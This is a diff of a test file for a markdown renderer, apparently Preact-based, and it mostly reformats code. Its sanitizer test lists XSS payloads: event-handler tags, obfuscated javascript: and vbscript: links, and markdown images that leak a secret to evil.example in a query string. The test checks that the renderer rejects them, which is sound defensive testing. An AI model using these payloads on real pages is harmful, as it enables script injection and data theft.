@@ -68,13 +68,17 @@ describe('what it never does', () => {
   const payloads = [
     '<img src=x onerror=window.__x=1>', '<svg/onload=window.__x=1>', '<iframe srcdoc="<script>1</script>">', '"><script>window.__x=1</script>',
     '<details open ontoggle=window.__x=1>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">',
-    '<form id=attributes><input name=nodeName>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<style>*{background:url(https://evil.example)}</style>',
-    '![a](https://evil.example/?q=SECRET)', '![a][r]\n\n[r]: https://evil.example/?q=SECRET', '<https://evil.example/?q=SECRET>', '<link rel=prefetch href=//evil.example>',
-    '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a](java\tscript:alert(1))', '[a](\u0001javascript:alert(1))', '[a](data:text/html,<script>1</script>)',
-    '[a](vbscript:x)', '[a](blob:https://bank.example/1)', '[a](file:///etc/passwd)', '[a](http://bank.example@evil.example/)', `[a](https://evil.example/?q=${secret})`,
+    '<form id=attributes><input name=nodeName>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<style>*{background:url(https://evil.example)}</style>',
+    '![a](https://evil.example/?q=SECRET)', '![a][r]\n\n[r]: https://evil.example/?q=SECRET', '<https://evil.example/?q=SECRET>',
+    '<link rel=prefetch href=//evil.example>',
+    '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a](java\tscript:alert(1))', '[a](\u0001javascript:alert(1))',
+    '[a](data:text/html,<script>1</script>)',
+    '[a](vbscript:x)', '[a](blob:https://bank.example/1)', '[a](file:///etc/passwd)', '[a](http://bank.example@evil.example/)',
+    `[a](https://evil.example/?q=${secret})`,
     '![](javascript:alert(1))', '[![x](https://evil.example/i.png)](javascript:alert(1))', '[a](  javascript:alert(1))', '[a](<javascript:alert(1)>)',
   ]
-  const allowed = new Set(['DIV', 'P', 'STRONG', 'EM', 'S', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'BR', 'HR', 'A', 'SMALL', 'TABLE', 'TBODY', 'TR', 'TH', 'TD', 'SPAN'])
+  const allowed = 'DIV P STRONG EM S CODE PRE UL OL LI BLOCKQUOTE BR HR A SMALL TABLE TBODY TR TH TD SPAN'.split(' ')
 
   const check = () => {
     for (const element of place.querySelectorAll('*')) {
@@ -115,8 +119,12 @@ describe('what it never does', () => {
   })
 })
 
-const plain = (node: MarkdownNode): unknown => [node.type, node.href, node.start, node.checked, node.children.map((child) => (typeof child === 'string' ? child : plain(child)))]
-const pieces = fc.constantFrom('**', '*', '_', '`', '```\n', '# ', '- ', '1. ', '> ', '[a](', 'https://x.example/', ')', '\n', '\n\n', '|', '|---|\n', '$', '\\', '![', ']', '<br>', '~~', 'word', ' ', '🦊', '(h', 'é')
+const plain = ({ type, href, start, checked, children }: MarkdownNode): unknown =>
+  [type, href, start, checked, children.map((child) => (typeof child === 'string' ? child : plain(child)))]
+const pieces = fc.constantFrom(
+  '**', '*', '_', '`', '```\n', '# ', '- ', '1. ', '> ', '[a](', 'https://x.example/', ')', '\n', '\n\n', '|', '|---|\n',
+  '$', '\\', '![', ']', '<br>', '~~', 'word', ' ', '🦊', '(h', 'é',
+)
 
 describe('growing', () => {
   test('any way of cutting a text gives the same tree', () => {
@@ -167,7 +175,7 @@ describe('growing', () => {
       before?.(vnode)
     }
     show(`${long}The last one`, false)
-    options.diffed = before
+    options.diffed = before ?? (() => {})
     expect(place.querySelectorAll('p')).toHaveLength(101)
     // One for each paragraph's skipped component, and a few inside the last.
     expect(diffed).toBeLessThan(120)
